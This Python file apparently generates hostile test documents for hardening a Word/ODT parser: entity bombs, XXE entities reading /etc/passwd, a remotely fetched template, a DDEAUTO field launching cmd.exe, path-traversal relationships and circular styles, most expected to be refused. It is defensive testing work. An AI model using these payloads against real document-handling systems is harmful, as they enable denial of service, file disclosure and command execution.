"""Word documents whose parts are missing, swapped, in odd encodings, or go round in circles."""

from collections.abc import Iterator

from docx_builder import W, docx, p, packed, part, parts, r, relation, relations
from harmful.made import ESSAY, OLE, REFUSED, Hostile, changed, odt_of

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_NUM = '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'


def entities() -> Iterator[Hostile]:
    laughs = f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{_LAUGHS}]>'
    kinds = {
        "laughs": (laughs, "&l9;"),
        "quadratic": (f'<!DOCTYPE a [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 5_000),
        "external": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "web": ('<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>', "&x;"),
        "parameter": ('<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', ""),
        "external-dtd": ('<!DOCTYPE a SYSTEM "file:///etc/passwd">', ""),
        "loop": ('<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "default": ('<!DOCTYPE a [<!ATTLIST w:p secret CDATA "x">]>', ""),
    }
    for name, (declared, used) in kinds.items():
        main = declared + part("document", f"<w:body>{p(r(f'Words {used}'))}</w:body>")
        yield Hostile(f"entity-{name}.docx", f"entities: {name}", changed({"word/document.xml": main}), REFUSED)
        yield Hostile(f"entity-{name}.odt", f"entities: {name}", odt_of(f"<text:p>Words {used}</text:p>", declared), REFUSED)
    yield Hostile("entity-styles.docx", "entities in the style sheet", changed({"word/styles.xml": f"{laughs}<a>&l9;</a>"}))
    page = f"<!DOCTYPE html [<!ENTITY l0 'lol'>{_LAUGHS}]><html><p>Words &l9;</p></html>"
    yield Hostile("entity-laughs.html", "entities in a web page", page.encode())


def wrong_parts() -> Iterator[Hostile]:
    sound = parts(p(r(ESSAY)), styles="", numbering="", footnotes="")
    for name in sound:
        yield Hostile(
            f"missing-{name.rpartition('/')[2]}.docx", f"{name} missing", packed({k: v for k, v in sound.items() if k != name})
        )
        yield Hostile(f"empty-{name.rpartition('/')[2]}.docx", f"{name} empty", packed({**sound, name: ""}))
    main = str(sound["word/document.xml"])
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"):
        declared = f'<?xml version="1.0" encoding="{encoding}"?>{main}'.encode(encoding)
        yield Hostile(f"{encoding}.docx", f"XML in {encoding}", packed({**sound, "word/document.xml": declared}))
    bare = f'<?xml version="1.0" encoding="nonsense"?>{main}'
    yield Hostile("no-encoding.docx", "XML in an encoding that does not exist", packed({**sound, "word/document.xml": bare}))
    broken = main.encode().replace(b"school", b"sch\xff\xfeool")
    yield Hostile("bad-utf8.docx", "XML with bytes that are no letters", packed({**sound, "word/document.xml": broken}))
    nul = main.replace("school", "sch\0ool")
    yield Hostile("nul.docx", "XML with a NUL", packed({**sound, "word/document.xml": nul}))
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
    types = types.format('<Default Extension="xml" ContentType="{}"/>')
    yield Hostile(
        "types.docx",
        "content types that say it is a picture",
        packed({**sound, "[Content_Types].xml": types.format("image/png")}),
    )
    yield Hostile(
        "other-root.docx", "a main part that is another kind of part", packed({**sound, "word/document.xml": part("styles", "")})
    )
    yield Hostile("other-names.docx", "names of another world", packed({**sound, "word/document.xml": main.replace(W, "urn:x")}))
    macros = {"word/vbaProject.bin": OLE + bytes(5_000), "word/embeddings/oleObject1.bin": OLE + bytes(5_000)}
    yield Hostile("macros.docm", "macros and objects", packed({**sound, **macros}))
    template = relation("t", "attachedTemplate", "http://127.0.0.1:9/evil.dotm", True)
    yield Hostile("template.docx", "a template fetched from the web", docx(p(r(ESSAY)), (template,)))
    fields = p(
        '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>', r(ESSAY)
    )
    yield Hostile("dde.docx", "a field that runs a program", docx(fields))


def circles() -> Iterator[Hostile]:
    style = '<w:style w:type="paragraph" w:styleId="{}"><w:basedOn w:val="{}"/></w:style>'
    loop = style.format("A", "B") + style.format("B", "A")
    yield Hostile(
        "style-circle.docx", "styles based on each other", docx(p(r(ESSAY), properties='<w:pStyle w:val="A"/>'), styles=loop)
    )
    self_loop = '<w:style w:type="character" w:styleId="A"><w:basedOn w:val="A"/></w:style>'
    yield Hostile("style-self.docx", "a style based on itself", docx(p(r(ESSAY, '<w:rStyle w:val="A"/>')), styles=self_loop))
    yield Hostile(
        "note-circle.docx",
        "a note that refers to itself",
        docx(p(r(ESSAY), _noted(1)), footnotes=_note(1, _noted(1))),
    )
    numbers = f'<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/></w:abstractNum>{_NUM}'
    linked = '<w:style w:type="numbering" w:styleId="L"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    body = p(r(ESSAY), properties='<w:numPr><w:numId w:val="1"/></w:numPr>')
    yield Hostile(
        "list-circle.docx", "a list that names a style that names the list", docx(body, styles=linked, numbering=numbers)
    )
    itself = relations(relation("main", "officeDocument", "_rels/.rels"))
    yield Hostile(
        "relation-self.docx", "relationships that name themselves the main part", changed({"_rels/.rels": itself}), REFUSED
    )
    styles = relations(relation("s", "styles", "document.xml"), relation("f", "footnotes", "document.xml"))
    yield Hostile(
        "relation-swap.docx", "the main part as its own style sheet and notes", changed({"word/_rels/document.xml.rels": styles})
    )
    outside = relations(relation("s", "styles", "../../../../etc/passwd"), relation("n", "numbering", "file:///etc/passwd"))
    yield Hostile("relation-out.docx", "a style sheet outside the package", changed({"word/_rels/document.xml.rels": outside}))
    many = relations(*(relation(f"r{n}", "image", "x.png") for n in range(50_000)))
    yield Hostile("relations.docx", "50,000 relationships", changed({"word/_rels/document.xml.rels": many}))


def _note(number: int, inside: str = "") -> str:
    return f'<w:footnote w:id="{number}">{p(r("note"), inside)}</w:footnote>'


def _noted(number: int) -> str:
    return f'<w:r><w:footnoteReference w:id="{number}"/></w:r>'
